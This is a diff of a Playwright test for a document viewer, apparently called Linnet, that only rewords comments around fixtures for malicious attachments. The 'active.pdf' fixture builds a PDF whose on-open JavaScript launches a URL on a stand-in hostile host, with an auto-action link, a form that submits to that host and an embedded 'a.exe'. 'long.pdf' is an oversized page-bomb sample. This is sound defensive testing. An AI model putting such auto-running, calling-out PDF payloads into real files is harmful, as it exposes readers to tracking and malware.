@@ -2,7 +2,7 @@ import type { Page } from '@playwright/test'
 import { drawPng } from '../support/drawn-pictures.ts'
 import { expect, test } from './linnet.ts'
 
-/** A PDF of these objects, numbered from 1, with its trailer. */
+/** A PDF made of these objects, numbered from 1, with its trailer. */
 const pdf = (trailer: string, ...objects: readonly (string | Buffer)[]): Buffer =>
   Buffer.concat([
     Buffer.from('%PDF-1.7\n'),
@@ -37,7 +37,7 @@ const FILES = {
     '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>',
   ),
   'cut.pdf': Buffer.from('%PDF-1.7\n1 0 obj<</Type/Cat'),
-  // A script on opening, a submitted form, a link, and an embedded file.
+  // A PDF with a script that runs on opening, a submitted form, a link, and an embedded file.
   'active.pdf': pdf(
     '',
     '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\("https://hostile.example/js"\\))>>/AA<</WC<</S/URI/URI(https://hostile.example/aa)>>>>/AcroForm<</Fields[5 0 R]/XFA(<x/>)>>/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>>>',
@@ -47,7 +47,7 @@ const FILES = {
     '<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 200 200]/A<</S/SubmitForm/F(https://hostile.example/form)>>>>',
     '<</Type/Filespec/F(https://hostile.example/file)/EF<</F 4 0 R>>>>',
   ),
-  // The first page is a mile long, and thousands follow.
+  // A PDF whose first page is a mile long, followed by thousands more.
   'long.pdf': pdf(
     '',
     CATALOG,
@@ -137,7 +137,7 @@ test('previews malicious attachments or explains why not, without a request or a
   await expect.poll(() => redness(page, 10_000)).toBeGreaterThan(0.9)
   const large = await next('large-picture.pdf')
   await expect(large.getByText('Parts of this PDF are not shown.')).toBeVisible()
-  // Decoded by a script that ships with Linnet, because no WebAssembly runs (S12).
+  // Decoded by a script that ships with Linnet, because WebAssembly is blocked (S12).
   await expect((await next('scan.pdf')).getByText('Page 1 of 1')).toBeVisible()
   await expect.poll(() => redness(page, 1)).toBeGreaterThan(0.9)
   await expect((await next('wall.png')).getByText('This picture is too large to show')).toBeVisible()
